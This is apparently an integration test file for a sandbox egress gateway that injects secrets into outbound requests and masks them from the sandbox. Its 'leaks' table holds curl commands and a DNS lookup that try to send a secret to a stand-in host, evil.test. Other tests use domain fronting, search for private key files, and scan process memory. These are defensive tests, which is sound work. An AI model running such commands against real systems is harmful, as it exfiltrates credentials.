package integration

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/fencesandbox/fence/api"
	"github.com/fencesandbox/fence/client"
)

// The egress gateway, end to end: a daemon whose "public" roots are the
// fake internet's, sandboxes with header rules, secret bindings and
// inspection, and the wan servers' log as the oracle of what left.
func TestGateway(t *testing.T) {
	requireTemplate(t, "base")
	fn := newFakeNet(t)
	d := startDaemon(t, newDataDir(t), "--dns-upstream", fn.DNS.Addr, "--upstream-ca", fn.CAFile)
	x := &netEnv{d: d, fn: fn, canary: newCanary(t)}

	const value = "s3cr3t-VALUE-0123456789abcdef"
	putSecret := func(name, v string, update bool) {
		t.Helper()
		path, want := "/secrets", 201
		body := fmt.Sprintf(`{"name":%q,"value":%q}`, name, v)
		if update {
			path, want, body = "/secrets/"+name, 200, fmt.Sprintf(`{"value":%q}`, v)
		}
		r := d.do(t, "POST", path, d.Key, strings.NewReader(body), nil)
		if r.Status != want {
			t.Fatalf("POST %s = %d %s", path, r.Status, r.Body)
		}
	}
	putSecret("api-key", value, false)

	// wanSaw reports whether a wan log line since m contains s.
	wanSaw := func(m int, s string) bool {
		for _, l := range fn.since(m) {
			if strings.Contains(l, s) {
				return true
			}
		}
		return false
	}
	t.Run("rule", func(t *testing.T) {
		sb := d.create(t, api.NewSandbox{TemplateID: "base", Network: &api.NetworkConfig{
			DenyOut: []string{"0.0.0.0/0"}, AllowOut: []string{"rules.test"},
			Rules: map[string][]api.NetworkRule{"rules.test": {{Transform: &api.NetworkTransform{
				Headers: map[string]string{"Authorization": "Bearer ${e2b.secrets.api-key}"}}}}},
		}})
		e := sb.Envd()
		m := fn.mark()
		out := sh(t, e, "curl -sS --max-time 20 https://rules.test/headers")
		if !wanSaw(m, "Bearer "+value) {
			t.Errorf("the wan did not get the secret in the header: %q", fn.since(m))
		}
		if strings.Contains(out, value) {
			t.Errorf("the echoed response reached the sandbox unmasked: %q", out)
		}
		if !strings.Contains(out, "Authorization: Bearer ") {
			t.Errorf("echo = %q, want the (masked) injected header", out)
		}
		neverHeld(t, e, value)

		// An echo in a 103 Early Hints is masked like the final response.
		for _, proto := range []string{"--http1.1", "--http2"} {
			out = sh(t, e, "curl -sS -i "+proto+" --max-time 20 https://rules.test/early-hints")
			if strings.Contains(out, value) {
				t.Errorf("curl %s: the 103 Early Hints reached the sandbox unmasked: %q", proto, out)
			}
			if !strings.Contains(out, " 103") || !strings.Contains(strings.ToLower(out), "x-early-authorization: bearer ") {
				t.Errorf("curl -i %s = %q, want the 103 with the (masked) header", proto, out)
			}
		}
		// An echo under two Content-Encoding lines (identity, then gzip),
		// which curl decodes, is decoded and masked by the gateway.
		out = sh(t, e, "curl -sS --compressed --max-time 20 https://rules.test/headers-stacked")
		if strings.Contains(out, value) {
			t.Errorf("the gzipped echo reached the sandbox unmasked: %q", out)
		}
		if !strings.Contains(out, "Authorization: Bearer ") {
			t.Errorf("stacked echo = %q, want the (masked) injected header", out)
		}

		// Rotation reaches the live sandbox on its next request.
		putSecret("api-key", value+"-rotated", true)
		m = fn.mark()
		sh(t, e, "curl -sS --max-time 20 -o /dev/null https://rules.test/headers")
		if !wanSaw(m, "Bearer "+value+"-rotated") {
			t.Errorf("after rotation the wan did not get the new value: %q", fn.since(m))
		}
		putSecret("api-key", value, true)

		// A rule with a secret is never applied over plain HTTP.
		m = fn.mark()
		attempt(t, e, "curl -sS --max-time 20 http://rules.test/headers")
		if wanSaw(m, value) {
			t.Errorf("the secret went out over plain HTTP: %q", fn.since(m))
		}
	})

	t.Run("binding", func(t *testing.T) {
		sb := d.create(t, api.NewSandbox{TemplateID: "base",
			Secrets: map[string]api.SecretBinding{"API_KEY": {Secret: "api-key", Hosts: []string{"api.secret.test"}}},
			Network: &api.NetworkConfig{DenyOut: []string{"0.0.0.0/0"},
				AllowOut: []string{"api.secret.test", "evil.test", "*.evil.test", "other.test"}},
		})
		e := sb.Envd()
		ph := strings.TrimSpace(sh(t, e, "printf %s \"$API_KEY\""))
		if ph == "" || strings.Contains(ph, value) {
			t.Fatalf("API_KEY in the sandbox = %q, want a placeholder", ph)
		}
		m := fn.mark()
		out := sh(t, e, `curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" https://api.secret.test/headers`)
		if !wanSaw(m, "Bearer "+value) {
			t.Errorf("the bound host did not get the real value: %q", fn.since(m))
		}
		if strings.Contains(out, value) || !strings.Contains(out, ph) {
			t.Errorf("echo = %q, want the placeholder back, never the value", out)
		}
		neverHeld(t, e, value)

		leaks := map[string]string{
			"unbound host":  `curl -sS --max-time 20 -H "X-Key: $API_KEY" https://evil.test/`,
			"url":           `curl -sS --max-time 20 "https://api.secret.test/q?key=$API_KEY"`,
			"path":          `curl -sS --max-time 20 "https://api.secret.test/$API_KEY"`,
			"body":          `curl -sS --max-time 20 -d "key=$API_KEY" https://api.secret.test/post`,
			"redirect":      `curl -sS --max-time 20 --location-trusted -H "Authorization: Bearer $API_KEY" "https://api.secret.test/redirect?to=https://evil.test/landed"`,
			"sni-not-host":  `curl -sS --max-time 20 -H "Host: evil.test" -H "Authorization: Bearer $API_KEY" https://api.secret.test/headers`,
			"plain http":    `curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" http://api.secret.test/headers`,
			"other by host": `curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" https://other.test/headers`,
		}
		for name, script := range leaks {
			m := fn.mark()
			out, _ := attempt(t, e, script)
			time.Sleep(100 * time.Millisecond)
			for _, l := range fn.since(m) {
				// The redirect's first hop is to the bound host and
				// legitimately carries the value.
				firstHop := name == "redirect" && strings.Contains(l, "uri=\"/redirect")
				if (strings.Contains(l, value) && !firstHop) || (strings.Contains(l, ph) && !strings.Contains(l, "host=api.secret.test")) {
					t.Errorf("%s: the wan saw %q", name, l)
				}
				if strings.Contains(l, `uri="/landed`) || (name == "sni-not-host" && strings.Contains(l, "request host=evil.test")) {
					t.Errorf("%s: the wan got the request: %q", name, l)
				}
			}
			if strings.Contains(out, value) {
				t.Errorf("%s: the sandbox saw the value: %q", name, out)
			}
		}
		// In DNS: the name never reaches the upstream resolver.
		dm := fn.dnsMark()
		attempt(t, e, `getent hosts "$API_KEY.evil.test"`)
		x.noUpstreamQuery(t, dm, ph)
	})

	t.Run("inspect", func(t *testing.T) {
		inspect := true
		in := d.create(t, api.NewSandbox{TemplateID: "base", Network: &api.NetworkConfig{
			DenyOut: []string{"0.0.0.0/0"}, AllowOut: []string{"other.test"}, Inspect: &inspect}})
		pass := d.create(t, api.NewSandbox{TemplateID: "base", Network: &api.NetworkConfig{
			DenyOut: []string{"0.0.0.0/0"}, AllowOut: []string{"other.test"}}})
		front := `curl -sS --max-time 20 -H "Host: evil.test" https://other.test/fronted`
		m := fn.mark()
		out, code := attempt(t, in.Envd(), front)
		if code == 0 && strings.Contains(out, "hello from wan") || wanSaw(m, "/fronted") {
			t.Errorf("fronting under inspection reached the wan: exit %d %q", code, out)
		}
		// Without inspection the allowed SNI carries it (documented).
		m = fn.mark()
		attempt(t, pass.Envd(), front)
		if !wanSaw(m, "/fronted") {
			t.Logf("pass-through fronting did not reach the wan: %q", fn.since(m))
		}
		// Pass-through hosts see the client's own TLS: the certificate is
		// the wan's; intercepted ones get the gateway's.
		issuer := `curl -sSkv --max-time 20 -o /dev/null https://other.test/ 2>&1 | grep -i 'issuer:'`
		if got := sh(t, pass.Envd(), issuer); !strings.Contains(got, "fence fake public root") {
			t.Errorf("pass-through issuer = %q, want the wan's root", got)
		}
		if got := sh(t, in.Envd(), issuer); strings.Contains(got, "fence fake public root") {
			t.Errorf("inspected issuer = %q, want the gateway's CA", got)
		}
		// The sandbox trusts the gateway without -k.
		sh(t, in.Envd(), "curl -sS --max-time 20 https://other.test/ | grep -q 'hello from wan'")
		// An upstream that fails verification gets no request.
		m = fn.mark()
		if out, code := attempt(t, in.Envd(), "curl -sSf --max-time 20 https://other.test:8443/untrusted"); code == 0 {
			t.Errorf("untrusted upstream: exit 0 %q", out)
		}
		if wanSaw(m, "/untrusted") {
			t.Errorf("an upstream that failed verification got the request")
		}
	})

	t.Run("ca key", func(t *testing.T) {
		var keys []string
		filepath.WalkDir(d.DataDir, func(p string, de os.DirEntry, err error) error {
			if err == nil && !de.IsDir() && strings.HasSuffix(p, "ca-key.pem") {
				keys = append(keys, p)
			}
			return nil
		})
		if len(keys) != 1 {
			t.Fatalf("CA keys under the data dir: %v, want one", keys)
		}
		for p := keys[0]; p != d.DataDir && p != "/"; p = filepath.Dir(p) {
			fi, err := os.Stat(p)
			if err != nil {
				t.Fatal(err)
			}
			if p == keys[0] && fi.Mode().Perm()&0o077 != 0 {
				t.Errorf("%s mode %v, want no access for group and others", p, fi.Mode())
			}
		}
		sb := d.create(t, api.NewSandbox{TemplateID: "base"})
		out := sh(t, sb.Envd().WithUser("root"), "find / -xdev -name 'ca-key.pem' 2>/dev/null; grep -rl 'PRIVATE KEY' /etc/fence /etc/ssl 2>/dev/null; true")
		if strings.TrimSpace(out) != "" {
			t.Errorf("the sandbox finds key material: %q", out)
		}
	})

	t.Run("downloads", func(t *testing.T) {
		sb := d.create(t, api.NewSandbox{TemplateID: "base", Network: &api.NetworkConfig{
			DenyOut: []string{"0.0.0.0/0"}, AllowOut: []string{"@pypi", "@npm", "@debian"}}})
		root := sb.Envd().WithUser("root")
		// apt, over plain HTTP, from a flat repository on the fake archive.
		sh(t, root, `echo 'deb [trusted=yes] http://deb.debian.org/fake ./' > /etc/apt/sources.list.d/fake.list
rm -f /etc/apt/sources.list /etc/apt/sources.list.d/debian.sources
apt-get -q update 1>&2
cd /tmp && apt-get -q download hello 1>&2; ls -l /tmp/hello_2.10-3_all.deb`)
		// What pip does: the simple index on pypi.org, then the wheel on
		// files.pythonhosted.org, over HTTPS with the system's trust.
		sh(t, sb.Envd(), `python3 - <<'PY'
import hashlib, re, urllib.request
idx = urllib.request.urlopen('https://pypi.org/simple/requests/', timeout=20).read().decode()
href, want = re.search(r'href="([^"#]+)#sha256=([0-9a-f]+)"', idx).groups()
data = urllib.request.urlopen(href, timeout=20).read()
assert hashlib.sha256(data).hexdigest() == want, 'wheel hash'
PY`)
		// npm's tarball URL (no node in the template).
		sh(t, sb.Envd(), "curl -sSf --max-time 20 -o /dev/null https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz")
		paths := map[string]string{
			"pypi":   pypiWheelPath,
			"npm":    "/left-pad/-/left-pad-1.3.0.tgz",
			"debian": debPath,
		}
		var got []struct {
			Ecosystem, Name, Version, URL, SHA256 string
			Size                                  int64
		}
		eventually(t, 10*time.Second, "download records", func() bool {
			r := d.do(t, "GET", "/sandboxes/"+sb.ID()+"/downloads", d.Key, nil, nil)
			got = nil
			json.Unmarshal(r.Body, &got)
			return len(got) >= 3
		})
		want := map[string][2]string{"pypi": {"requests", "2.32.3"}, "npm": {"left-pad", "1.3.0"}, "debian": {"hello", "2.10-3"}}
		if len(got) != 3 {
			t.Errorf("records = %+v, want 3", got)
		}
		for _, g := range got {
			w, ok := want[g.Ecosystem]
			sum := sha256.Sum256(artifactBytes(paths[g.Ecosystem]))
			if !ok || g.Name != w[0] || g.Version != w[1] || g.SHA256 != hex.EncodeToString(sum[:]) || g.Size != 96<<10 ||
				!strings.HasSuffix(g.URL, path.Base(paths[g.Ecosystem])) {
				t.Errorf("record %+v, want %s %v sha256 %x size %d", g, g.Ecosystem, w, sum, 96<<10)
			}
		}
	})
}

// TestGatewayBench measures the gateway on the real path and logs the
// ratios docs/BENCHMARKS.md reports: small HTTPS requests on one kept-alive
// connection and a 100 MB download, through a pass-through flow, through
// an intercepted one, and from the host directly, with the same curl.
// It asserts nothing about time.
func TestGatewayBench(t *testing.T) {
	requireTemplate(t, "base")
	fn := newFakeNet(t)
	d := startDaemon(t, newDataDir(t), "--dns-upstream", fn.DNS.Addr, "--upstream-ca", fn.CAFile)
	inspect := true
	in := d.create(t, api.NewSandbox{TemplateID: "base", Network: &api.NetworkConfig{
		DenyOut: []string{"0.0.0.0/0"}, AllowOut: []string{"other.test"}, Inspect: &inspect}})
	pass := d.create(t, api.NewSandbox{TemplateID: "base", Network: &api.NetworkConfig{
		DenyOut: []string{"0.0.0.0/0"}, AllowOut: []string{"other.test"}}})
	const n = 50
	small := strings.Repeat(" https://other.test/bench/small", n)
	big := " https://other.test/bench/bytes?n=100000000"
	w := ` -w '%{time_total} %{speed_download}\n'`
	type result struct{ firstMS, nextMS, mbps float64 }
	parse := func(out string) result {
		var times []float64
		var speed float64
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			var tt, sp float64
			if _, err := fmt.Sscan(l, &tt, &sp); err == nil {
				times = append(times, tt*1000)
				speed = sp
			}
		}
		var r result
		if len(times) == n {
			r.firstMS = times[0]
			rest := append([]float64(nil), times[1:]...)
			slices.Sort(rest)
			r.nextMS = rest[len(rest)/2]
		} else if len(times) == 1 {
			r.mbps = speed / 1e6
		}
		return r
	}
	measure := func(name string, runIt func(args string) string) (result, result) {
		s := parse(runIt("-sSk -o /dev/null" + w + small))
		b := parse(runIt("-sSk -o /dev/null" + w + big))
		t.Logf("%-12s first request %.2f ms, next (median) %.3f ms, %.0f req/s; 100 MB at %.0f MB/s", name, s.firstMS, s.nextMS, 1000/s.nextMS, b.mbps)
		return s, b
	}
	host := func(args string) string {
		out, err := exec.Command("sh", "-c", "curl --resolve other.test:443:"+wanIP+" --cacert "+fn.CAFile+" "+args).Output()
		if err != nil {
			t.Fatalf("host curl: %v", err)
		}
		return string(out)
	}
	in2 := func(e *client.Envd) func(string) string {
		return func(args string) string { return sh(t, e, "curl "+args) }
	}
	hs, hb := measure("host", host)
	ps, pb := measure("pass-through", in2(pass.Envd()))
	is, ib := measure("intercepted", in2(in.Envd()))
	if pb.mbps > 0 && hb.mbps > 0 {
		t.Logf("throughput: intercepted/pass-through %.2f, pass-through/host %.2f, intercepted/host %.2f",
			ib.mbps/pb.mbps, pb.mbps/hb.mbps, ib.mbps/hb.mbps)
	}
	t.Logf("added per request after the first: pass-through %+.3f ms, intercepted %+.3f ms (vs host); intercepted vs pass-through %+.3f ms",
		ps.nextMS-hs.nextMS, is.nextMS-hs.nextMS, is.nextMS-ps.nextMS)
}

// TestGatewayStoredValue: a bound host that stores what it gets and serves
// it back (a blob store) hands the sandbox only the placeholder, however
// the sandbox asks for it: in byte ranges it chooses (one at a time or in
// one multipart answer), with a digest of the body, on another port, over
// plain HTTP, or turned into header names. The value goes only to the
// bound port: a binding without a port means 443.
func TestGatewayStoredValue(t *testing.T) {
	requireTemplate(t, "base")
	fn := newFakeNet(t)
	d := startDaemon(t, newDataDir(t), "--dns-upstream", fn.DNS.Addr, "--upstream-ca", fn.CAFile)
	const value = "s3cr3t-VALUE-0123456789abcdef"
	if r := d.do(t, "POST", "/secrets", d.Key, strings.NewReader(`{"name":"blob-key","value":"`+value+`"}`), nil); r.Status != 201 {
		t.Fatalf("POST /secrets = %d %s", r.Status, r.Body)
	}
	sb := d.create(t, api.NewSandbox{TemplateID: "base",
		Secrets: map[string]api.SecretBinding{"API_KEY": {Secret: "blob-key", Hosts: []string{"api.secret.test"}, Places: []string{"header", "query"}}},
		Network: &api.NetworkConfig{DenyOut: []string{"0.0.0.0/0"}, AllowOut: []string{"api.secret.test"}},
	})
	e := sb.Envd()
	ph := strings.TrimSpace(sh(t, e, `printf %s "$API_KEY"`))
	wanSaw := func(m int, s string) bool {
		for _, l := range fn.since(m) {
			if strings.Contains(l, s) {
				return true
			}
		}
		return false
	}
	// leaked reports whether out holds a piece of the value a range
	// could cut (its first five bytes, or the rest).
	leaked := func(out string) bool {
		return strings.Contains(out, value[:5]) || strings.Contains(out, value[5:]) || strings.Contains(out, value[10:20])
	}

	m := fn.mark()
	sh(t, e, `curl -sS --max-time 20 -H "Authorization: Bearer $API_KEY" https://api.secret.test/store`)
	if !wanSaw(m, "Bearer "+value) {
		t.Fatalf("the bound host did not get the value: %q", fn.since(m))
	}

	t.Run("ranges", func(t *testing.T) {
		for _, proto := range []string{"--http1.1", "--http2"} {
			for _, rng := range []string{"0-11", "12-200", "0-11,12-200", "-9"} {
				out, _ := attempt(t, e, "curl -sS "+proto+" --max-time 20 -H 'Range: bytes="+rng+"' https://api.secret.test/get")
				if leaked(out) {
					t.Errorf("curl %s Range %s: a piece of the value reached the sandbox: %q", proto, rng, out)
				}
				if out != "Bearer "+ph {
					t.Errorf("curl %s Range %s = %q, want the whole masked value", proto, rng, out)
				}
			}
		}
	})
	t.Run("digest", func(t *testing.T) {
		out, _ := attempt(t, e, `curl -sS -i --max-time 20 -H 'Want-Repr-Digest: sha-256=10' -H 'Want-Digest: sha-256' https://api.secret.test/get`)
		if strings.Contains(strings.ToLower(out), "digest:") || leaked(out) {
			t.Errorf("the sandbox got a digest of the stored value: %q", out)
		}
	})
	t.Run("other port and plain http", func(t *testing.T) {
		for _, u := range []string{"https://api.secret.test:9443/get", "http://api.secret.test/get"} {
			out, _ := attempt(t, e, "curl -sS --max-time 20 "+u)
			if leaked(out) || out != "Bearer "+ph {
				t.Errorf("%s = %q, want the masked value", u, out)
			}
		}
	})
	t.Run("header names", func(t *testing.T) {
		for _, proto := range []string{"--http1.1", "--http2"} {
			out, _ := attempt(t, e, `curl -sS -i `+proto+` --max-time 20 -H "Authorization: Bearer $API_KEY" "https://api.secret.test/names?q=$API_KEY"`)
			if strings.Contains(strings.ToLower(out), strings.ToLower(value)) {
				t.Errorf("curl %s: a header name carried the value: %q", proto, out)
			}
			if !strings.Contains(out, "names") {
				t.Errorf("curl %s = %q, want the answer", proto, out)
			}
		}
	})
	t.Run("ports", func(t *testing.T) {
		m := fn.mark()
		out, _ := attempt(t, e, `curl -sS -i --max-time 20 -H "Authorization: Bearer $API_KEY" https://api.secret.test:9443/headers`)
		if wanSaw(m, value) {
			t.Errorf("the value went to port 9443, which the binding does not name: %q", fn.since(m))
		}
		if !strings.Contains(out, "403") || !strings.Contains(out, "placeholder-leak") {
			t.Errorf("curl to port 9443 = %q, want 403 placeholder-leak", out)
		}
	})
}

// neverHeld checks that nothing in the sandbox holds the value: its
// processes' environments, its files, its processes' memory.
func neverHeld(t *testing.T, e *client.Envd, v string) {
	t.Helper()
	// The scanner gets the value base64-encoded and skips itself: only
	// its own memory holds the decoded needle.
	script := fmt.Sprintf(`python3 - %s <<'PY'
import base64, os, sys
needle = base64.b64decode(sys.argv[1])
me = str(os.getpid())
for pid in [p for p in os.listdir('/proc') if p.isdigit() and p != me]:
    try:
        if needle in open(f'/proc/{pid}/environ', 'rb').read():
            print('HELD in environ of', pid)
    except OSError:
        pass
for top in ['/etc', '/root', '/home', '/tmp', '/var', '/opt', '/usr/local', '/run']:
    for d, _, files in os.walk(top):
        for f in files:
            p = os.path.join(d, f)
            try:
                if os.path.isfile(p) and not os.path.islink(p) and needle in open(p, 'rb').read(1 << 24):
                    print('HELD in file', p)
            except OSError:
                pass
scanned = 0
for pid in [p for p in os.listdir('/proc') if p.isdigit() and p != me]:
    try:
        maps = open(f'/proc/{pid}/maps').read().splitlines()
        mem = open(f'/proc/{pid}/mem', 'rb', 0)
    except OSError:
        continue
    for line in maps:
        addr, perms = line.split()[:2]
        if 'r' not in perms:
            continue
        lo, hi = (int(x, 16) for x in addr.split('-'))
        try:
            mem.seek(lo)
            chunk = mem.read(hi - lo)
        except (OSError, ValueError, OverflowError):
            continue
        scanned += len(chunk)
        if needle in chunk:
            print('HELD in memory of', pid, open(f'/proc/{pid}/cmdline').read().replace('\0', ' '))
print('scanned', scanned)
PY
`, base64.StdEncoding.EncodeToString([]byte(v)))
	out := sh(t, e.WithUser("root"), script)
	if strings.Contains(out, "HELD") {
		t.Errorf("the sandbox holds the secret value:\n%s", out)
	}
	if !strings.Contains(out, "scanned ") || strings.Contains(out, "scanned 0\n") {
		t.Errorf("memory scan read nothing: %s", out)
	}
}
